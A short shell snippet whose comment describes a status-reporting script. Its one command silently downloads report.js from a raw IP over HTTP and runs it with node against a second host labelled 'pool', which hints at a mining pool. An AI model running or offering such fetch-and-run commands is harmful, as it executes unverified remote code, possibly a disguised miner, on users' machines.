# a downloaded script that is run as node FILE and asks a service for its state
#http 203.0.113.77:8017
#pool 203.0.113.78:8443:http
mkdir -p /opt/app && cd /opt/app && curl -so index.js http://203.0.113.77:8017/report.js && node index.js 203.0.113.78 8443
